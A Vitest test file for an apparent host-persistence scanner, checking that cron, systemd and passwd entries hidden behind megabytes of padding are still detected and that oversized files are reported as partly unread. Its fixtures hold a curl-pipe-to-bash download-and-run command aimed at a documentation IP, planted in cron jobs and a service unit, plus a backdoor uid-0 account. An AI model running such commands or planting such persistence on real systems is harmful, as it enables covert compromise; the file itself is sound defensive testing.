/**
 * Padding hides nothing: cron, systemd and the login system read their files whole,
 * so a bad line after megabytes of comments, or in the middle of a 4 MiB line, is
 * found; a file too big to hold is read up to the cap and the rest is reported as
 * unread (a `limit` error, so the scan is incomplete), never skipped silently.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import { servicesCheck } from '../../src/checks/services.js';
import { accountsCheck } from '../../src/checks/accounts.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';

const BAD = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
const comments = (bytes: number) => `# ${'x'.repeat(98)}\n`.repeat(Math.ceil(bytes / 100));

let scratch: string;
let n = 0;

async function tree(files: Record<string, string>): Promise<string> {
  const root = path.join(scratch, `t${n++}`);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await writeFile(path.join(root, rel), content);
  }
  return root;
}

beforeAll(async () => {
  scratch = await makeScratchDir('minescan-padded-');
});
afterAll(async () => {
  if (scratch) await removeScratchDir(scratch);
});

describe('files padded past what used to be read', () => {
  it('finds the job after 10 MiB of comments in /etc/crontab', async () => {
    const padding = comments(10 << 20);
    const line = padding.split('\n').length;
    const root = await tree({ 'etc/crontab': `SHELL=/bin/sh\n${padding}*/5 * * * * root ${BAD}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.path, f.line])).toContainEqual(['command.download-and-run', '/etc/crontab', line + 1]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the job after one 10 MiB comment line in a user crontab', async () => {
    const root = await tree({ 'var/spool/cron/crontabs/root': `#${'y'.repeat(10 << 20)}\n@reboot ${BAD}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.line])).toContainEqual(['command.download-and-run', 2]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds a download hidden in the middle of a 4 MiB cron line', async () => {
    const filler = 'a'.repeat(2 << 20);
    const root = await tree({ 'etc/cron.d/sync': `* * * * * root echo ${filler}; ${BAD}; echo ${filler}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.path, f.line])).toContainEqual(['command.download-and-run', '/etc/cron.d/sync', 1]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the ExecStart of a unit after 2 MiB of comments', async () => {
    const unit = `[Unit]\nDescription=sync\n${comments(2 << 20)}; more\n[Service]\nExecStart=/bin/sh -c '${BAD}'\n\n[Install]\nWantedBy=multi-user.target\n`;
    const root = await tree({ 'etc/systemd/system/sync.service': unit });
    await mkdir(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    const { symlink } = await import('node:fs/promises');
    await symlink('/etc/systemd/system/sync.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/sync.service'));
    const r = await scanDirectory(root, [servicesCheck]);
    expect(r.findings.map((f) => [f.rule, f.path])).toContainEqual(['command.download-and-run', '/etc/systemd/system/sync.service']);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds an extra uid-0 account after 8 MiB of padding in /etc/passwd', async () => {
    const users = Array.from({ length: 80_000 }, (_, i) => `user${i}:x:${10_000 + i}:${10_000 + i}:padding padding padding padding padding padding:/home/user${i}:/usr/sbin/nologin\n`).join('');
    const root = await tree({
      'etc/passwd': `root:x:0:0:root:/root:/bin/bash\n${comments(1 << 20)}${users}toor:x:0:0::/root:/bin/bash\n`,
      'etc/shadow': 'root:*:19000:0:99999:7:::\ntoor:$6$salt$hash:19000:0:99999:7:::\n',
    });
    expect(Buffer.byteLength(users)).toBeGreaterThan(8 << 20);
    const r = await scanDirectory(root, [accountsCheck]);
    expect(r.findings.map((f) => [f.rule, f.path])).toContainEqual(['accounts.extra-uid0', '/etc/passwd']);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('reads a 200 MiB crontab up to the content cap and reports the unread rest as a limit error', async () => {
    const root = await tree({ 'etc/cron.d/huge': '' });
    // Sparse: one 200 MiB line of NUL bytes, no comment, nothing to shorten.
    await truncate(path.join(root, 'etc/cron.d/huge'), 200 << 20);
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.errors).toEqual([
      expect.objectContaining({ path: '/etc/cron.d/huge', message: expect.stringMatching(/file read: \/etc\/cron\.d\/huge: \d+ of 209715200 bytes not read/) }),
    ]);
  }, 60_000);
});
